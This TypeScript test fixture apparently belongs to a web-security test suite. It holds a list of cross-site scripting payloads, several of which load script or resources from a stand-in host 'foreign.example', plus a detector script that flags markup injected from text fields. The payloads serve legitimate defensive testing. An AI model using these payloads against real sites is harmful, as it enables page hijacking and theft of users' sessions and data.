/** What every element of the corpus carries: a page that has one of them as an element took text for markup. */
export const MARK = 'xq7';
/** Nothing of this name is ever asked for, unless a text was taken for markup. */
export const FOREIGN_HOST = 'foreign.example';

/**
 * Texts that run or fetch something once they are taken for markup. Short, since fields are. The browser tells
 * of each: a dialog, a request to another host, an element of this class, or a complaint of the content policy.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script src=//foreign.example></script>',
  "'><img src=x onerror=alert(1) class=xq7>",
  '"><img src=//foreign.example/a class=xq7>',
  '<svg/onload=alert(1) class=xq7>',
  '<svg><animate onbegin=alert(1) class=xq7>',
  '</title><script>alert(1)</script>',
  '</textarea><img class=xq7 src=x onerror=alert(1)>',
  '</select><b class=xq7 autofocus tabindex=1 onfocus=alert(1)>',
  '</script><script>alert(1)</script>',
  '</style><img class=xq7 src=//foreign.example/b>',
  '--><img class=xq7 src=//foreign.example/c>',
  ']]><img class=xq7 src=//foreign.example/d>',
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" class="xq7',
  "' autofocus onfocus='alert(1)' class='xq7",
  'x autofocus onfocus=alert(1) class=xq7',
  '<iframe srcdoc="<script>alert(1)</script>" class=xq7>',
  '<iframe src=javascript:alert(1) class=xq7>',
  '<object data=//foreign.example/e class=xq7></object>',
  '<embed src=//foreign.example/f class=xq7>',
  '<link rel=stylesheet href=//foreign.example/g class=xq7>',
  '<style>@import "//foreign.example/h"</style>',
  '<base href=//foreign.example/>',
  '<meta http-equiv=refresh content="0;url=//foreign.example">',
  '<form action=//foreign.example class=xq7><input name=_form>',
  '<video><source class=xq7 onerror=alert(1) src=x></video>',
  '<details open ontoggle=alert(1) class=xq7>',
  '<math><mi xlink:href=javascript:alert(1) class=xq7>x</mi></math>',
  '<a href="javascript:alert(1)" class=xq7>x</a>',
  '<div data-hx-get=/ data-hx-trigger=load class=xq7>',
  '<b hx-on::load=alert(1) hx-get=//foreign.example class=xq7>',
  '<noscript><p title="</noscript><img class=xq7 src=x onerror=alert(1)>">',
  '<<b class=xq7>script>alert(1)//<</b>/script>',
  '<img class=xq7 src=`x`onerror=alert(1)>',
  '&lt;img class=xq7 src=x onerror=alert(1)&gt;',
  '\u003cimg class=xq7 src=x onerror=alert(1)\u003e',
  '<img\tclass=xq7\tsrc=x\tonerror=alert(1)>',
  '<IMG CLASS=xq7 SRC=x ONERROR=alert(1)>',
  '{{{x}}}<b class=xq7>{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}<b class=xq7>#{alert(1)}<%= alert(1) %>',
  '[x](javascript:alert(1))<b class=xq7>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];

/** Some of all sorts, for the fields that staff declare: an attribute, an element, a template, an address. */
export const FIELD_TEXTS: readonly string[] = HOSTILE_TEXTS.filter((_text, at) => at % 7 === 2);

/** What a page itself may tell: elements that came out of a text, handlers in attributes, links that run something. */
export const TAKEN_FOR_MARKUP = `(() => {
  const found = [...document.querySelectorAll('.${MARK}, base, meta[http-equiv=refresh], [src*="${FOREIGN_HOST}"], [href*="${FOREIGN_HOST}"], [action*="${FOREIGN_HOST}"]')];
  for (const each of document.querySelectorAll('*')) {
    for (const { name, value } of each.attributes) {
      if (/^on/i.test(name) || /^(data-)?hx-on/i.test(name) || (/^(href|src|action|formaction|xlink:href|data)$/i.test(name) && /^[\\s\\u0000-\\u0020]*(java|vb)\\s*script:|^\\s*data:text/i.test(value))) found.push(each);
    }
  }
  for (const script of document.querySelectorAll('script')) if (script.textContent.includes('alert(1)') && script.type !== 'application/json') found.push(script);
  return found.map((each) => each.outerHTML.slice(0, 200));
})()`;
